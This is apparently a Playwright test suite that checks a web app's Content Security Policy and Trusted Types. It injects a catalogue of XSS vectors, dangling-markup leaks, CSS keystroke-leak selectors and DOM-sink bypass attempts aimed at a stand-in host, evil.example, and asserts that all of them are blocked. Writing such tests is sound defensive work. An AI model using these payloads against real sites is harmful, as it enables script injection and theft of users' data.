import type { Page } from "playwright/test";

import { atRest, expect, started, test } from "./fixtures.ts";

// A hole in the HTML of a page: what somebody wrote into it neither runs nor fetches. Each piece is
// tried without the policy too, so that it is known to do what it is said to do.

const other = "https://evil.example";
const run = (name: string) => `evil('${name}')`;
const data = (name: string) => `data:text/javascript,${run(name)}`;
const image = (name: string) => `${other}/${name}.png`;

/** HTML that runs script, by the name that the script reports. */
const scripts: Record<string, string> = {
  inline: `<script>${run("inline")}</script>`,
  emptyNonce: `<script nonce="">${run("emptyNonce")}</script>`,
  guessedNonce: `<script nonce="undefined">${run("guessedNonce")}</script>`,
  dataUrl: `<script src="${data("dataUrl")}"></script>`,
  otherHost: `<script src="${other}/otherHost.js"></script>`,
  module: `<script type="module">import "${data("module")}"</script>`,
  svgScript: `<svg><script href="${data("svgScript")}"></script></svg>`,
  imageError: `<img src="/no-such.png" onerror="${run("imageError")}">`,
  svgLoad: `<svg onload="${run("svgLoad")}"></svg>`,
  detailsToggle: `<details open ontoggle="${run("detailsToggle")}"><summary>x</summary></details>`,
  styleLoad: `<style onload="${run("styleLoad")}">x{}</style>`,
  animation: `<style>@keyframes evil{}</style><b style="animation:evil 1s" onanimationstart="${run("animation")}">x</b>`,
  srcdoc: `<iframe srcdoc="<script>parent.${run("srcdoc")}</script>"></iframe>`,
  frameUrl: `<iframe src="javascript:parent.${run("frameUrl")}"></iframe>`,
  shadowRoot: `<div><template shadowrootmode="open"><script>${run("shadowRoot")}</script></template></div>`,
  importMap: `<script type="importmap">{"imports":{"evil":"${data("importMap")}"}}</script><script type="module">import "evil"</script>`,
};

/** HTML that asks another host for something, by the path it asks for. */
const fetches: Record<string, string> = {
  "image.png": `<img src="${image("image")}">`,
  "source.png": `<picture><source srcset="${image("source")}"><img src="/favicon.ico"></picture>`,
  "inputImage.png": `<input type="image" src="${image("inputImage")}">`,
  "svgImage.png": `<svg><image href="${image("svgImage")}" width="9" height="9"/></svg>`,
  "styleAttribute.png": `<b style="display:block;height:9px;background:url(${image("styleAttribute")})">x</b>`,
  "styleElement.png": `<style>body{background:url(${image("styleElement")})!important}</style>`,
  "import.css": `<style>@import "${other}/import.css";</style>`,
  "linked.css": `<link rel="stylesheet" href="${other}/linked.css">`,
  "font.woff2": `<style>@font-face{font-family:evil;src:url(${other}/font.woff2)}</style><b style="font-family:evil">x</b>`,
  // What is typed or stands in a field, letter by letter.
  "typed.png": `<input value="a"><style>input[value^=a]{background:url(${image("typed")})}</style>`,
  "frame.html": `<iframe src="${other}/frame.html"></iframe>`,
  "object.html": `<object data="${other}/object.html"></object>`,
  "embed.html": `<embed src="${other}/embed.html">`,
  "video.mp4": `<video src="${other}/video.mp4" preload="auto"></video>`,
  "preload.js": `<link rel="preload" as="script" href="${other}/preload.js">`,
  "module.js": `<link rel="modulepreload" href="${other}/module.js">`,
  "prefetch.html": `<link rel="prefetch" href="${other}/prefetch.html">`,
};

/** What an open quotation mark takes with it up to the next one. */
const dangling: Record<string, string> = {
  image: `<img src='${other}/?`,
  background: `<table background='${other}/?`,
  styleImport: `<style>@import '${other}/?`,
  meta: `<meta http-equiv="refresh" content='0;url=javascript:${run("meta")}//`,
};

interface Tried {
  ran: string[];
  fetched: string[];
}

/**
 * Opens a page into which something was written.
 *
 * @param at before which text
 * @param hasPolicy false takes the policy away, to see that the injected HTML works
 */
async function injected(
  page: Page,
  html: string,
  { at = "</main>", hasPolicy = true }: { at?: string; hasPolicy?: boolean } = {},
): Promise<Tried> {
  const tried: Tried = { ran: [], fetched: [] };
  await page.exposeFunction("evil", (name: string) => tried.ran.push(name));
  await page.route(`${other}/**`, async (route) => {
    const path = new URL(route.request().url()).pathname.slice(1);
    tried.fetched.push(path);
    const name = path.replace(".js", "");
    const body = path.endsWith(".js") ? run(name) : "";
    await route.fulfill({ body, headers: { "access-control-allow-origin": "*" } });
  });
  await page.route("**/terms-of-service", async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    if (!hasPolicy) delete headers["content-security-policy"];
    const text = await response.text();
    await route.fulfill({ response, headers, body: text.replace(at, `${html}${at}`) });
  });
  await page.goto("/terms-of-service", { waitUntil: "networkidle" });
  await atRest(page);
  return tried;
}

const unique = (names: string[]) => [...new Set(names)].toSorted();

test.describe("written into a page", () => {
  const all = Object.values({ ...scripts, ...fetches }).join("\n");

  test("nothing runs, and nothing is fetched from another host", async ({ page }) => {
    expect(await injected(page, all)).toEqual({ ran: [], fetched: [] });
  });

  test("without the policy all of it would @rehearsal", async ({ page }) => {
    const { ran, fetched } = await injected(page, all, { hasPolicy: false });
    await expect.poll(() => unique(ran)).toEqual(Object.keys(scripts).toSorted());
    await expect.poll(() => fetched).toEqual(expect.arrayContaining(Object.keys(fetches)));
  });

  test("a base address moves no script and no form to another host @rehearsal", async ({
    page,
  }) => {
    const { fetched } = await injected(page, `<base href="${other}/">`, { at: "<meta" });
    expect(fetched).toEqual([]);
    expect(await page.evaluate(() => new URL(document.baseURI).hostname)).toBe("localhost");
  });

  for (const [name, html] of Object.entries(dangling)) {
    test(`a quotation mark left open in ${name} carries nothing away @rehearsal`, async ({
      page,
    }) => {
      expect(await injected(page, html, { at: "<footer" })).toEqual({ ran: [], fetched: [] });
    });
  }

  test("a link, a form and a button that are pressed run nothing and send nothing away", async ({
    page,
  }) => {
    const tried = await injected(
      page,
      `<div style="position:fixed;inset:0;z-index:9999;background:#fff">
        <a class="evil" href="javascript:${run("link")}">1</a>
        <a class="evil" href="javascript:${run("target")}" target="_blank">2</a>
        <svg width="20" height="20"><a class="evil" href="javascript:${run("svg")}"><rect width="20" height="20"/></a></svg>
        <button class="evil" onclick="${run("click")}">3</button>
        <form action="javascript:${run("form")}"><button class="evil">4</button></form>
        <form action="${other}/form" method="post"><input name="a" value="typed"><button class="evil">5</button></form>
        <form action="/search"><button class="evil" formaction="${other}/formaction">6</button></form>
      </div>`,
    );
    for (const control of await page.locator(".evil").all()) {
      await control.click({ force: true, noWaitAfter: true });
    }
    await atRest(page);
    expect(tried).toEqual({ ran: [], fetched: [] });
    expect(await page.evaluate(() => location.pathname)).toBe("/terms-of-service");
  });
});

test("script that a gadget of ours would run gets no string run, no host asked, no policy made @rehearsal", async ({
  page,
}) => {
  const asked: string[] = [];
  await page.route(`${other}/**`, async (route) => {
    asked.push(route.request().url());
    await route.fulfill({ body: "" });
  });
  await page.goto("/resources", { waitUntil: "networkidle" });
  // The policy that nobody else may make is made when the page is hydrated.
  await started(page);
  const done = await page.evaluate(async (host) => {
    const code = "document.title = 'evil'";
    const markup = `<img src=x onerror="${code}">`;
    const make = (tag: string) => document.createElement(tag);
    const svg = "http://www.w3.org/2000/svg";
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: {
        defaultPolicy: { createHTML: (text: string) => unknown } | null;
        createPolicy: (name: string, rules: object) => unknown;
      };
    };
    const attempts: Record<string, () => unknown> = {
      // oxlint-disable-next-line no-eval
      eval: () => globalThis.eval(code),
      Function: () => Reflect.construct(Function, [code])(),
      AsyncFunction: () => Reflect.construct((async () => {}).constructor, [code])(),
      timeout: () => Reflect.apply(setTimeout, undefined, [code]),
      importData: () => import(`data:text/javascript,${encodeURIComponent(code)}`),
      importBlob: () => import(URL.createObjectURL(new Blob([code], { type: "text/javascript" }))),
      importHost: () => import(`${host}/x.js`),
      worker: () => new Worker(`data:text/javascript,1`),
      serviceWorker: () => navigator.serviceWorker.register("/no-such.js"),
      wasm: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
      innerHTML: () => (make("div").innerHTML = markup),
      outerHTML: () => (document.body.appendChild(make("div")).outerHTML = markup),
      adjacent: () => document.body.insertAdjacentHTML("beforeend", markup),
      fragment: () => document.createRange().createContextualFragment(markup),
      unsafe: () => Reflect.apply(Reflect.get(make("div"), "setHTMLUnsafe"), make("div"), [markup]),
      execCommand: () => document.execCommand("insertHTML", false, markup),
      srcdoc: () => ((make("iframe") as HTMLIFrameElement).srcdoc = markup),
      scriptText: () => (make("script").textContent = code),
      scriptSrc: () => ((make("script") as HTMLScriptElement).src = `${host}/x.js`),
      embedSrc: () => ((make("embed") as HTMLEmbedElement).src = `${host}/x`),
      objectData: () => ((make("object") as HTMLObjectElement).data = `${host}/x`),
      handler: () => make("div").setAttribute("onclick", code),
      svgHref: () => document.createElementNS(svg, "script").setAttribute("href", `${host}/x.js`),
      defaultPolicy: () => {
        const html = trustedTypes.defaultPolicy?.createHTML(markup);
        if (String(html) !== markup) throw new Error("refused");
      },
      anotherPolicy: () =>
        trustedTypes.createPolicy("evil", { createHTML: (text: string) => text }),
      samePolicy: () => trustedTypes.createPolicy("aioi", { createHTML: (text: string) => text }),
      fetch: () => fetch(`${host}/fetch`, { mode: "no-cors" }),
      socket: () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket("wss://evil.example/socket");
          socket.addEventListener("open", resolve);
          socket.addEventListener("error", reject);
        }),
      events: () =>
        new Promise((resolve, reject) => {
          const source = new EventSource(`${host}/events`);
          source.addEventListener("open", resolve);
          source.addEventListener("error", reject);
        }),
      image: () =>
        new Promise((resolve, reject) => {
          const image = new Image();
          image.addEventListener("load", resolve);
          image.addEventListener("error", reject);
          image.src = `${host}/picture.png`;
        }),
    };
    // Chromium lets what a debugger evaluates use eval, until it yields.
    await new Promise((resolve) => setTimeout(resolve));
    const succeeded: string[] = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        const result = await attempt();
        if (name !== "execCommand" || result === true) succeeded.push(name);
      } catch {
        // Refused.
      }
    }
    // These fail in silence: seen by what they do.
    navigator.sendBeacon(`${host}/beacon`, "x");
    location.href = `javascript:${code}`;
    const base = document.head.appendChild(document.createElement("base"));
    base.href = `${host}/`;
    const written = document.createElement("script");
    written.append(code);
    document.body.append(written);
    return succeeded;
  }, other);
  await atRest(page);
  expect(done).toEqual([]);
  expect(asked).toEqual([]);
  expect(await page.title()).not.toContain("evil");
  expect(await page.evaluate(() => new URL(document.baseURI).hostname)).toBe("localhost");
});
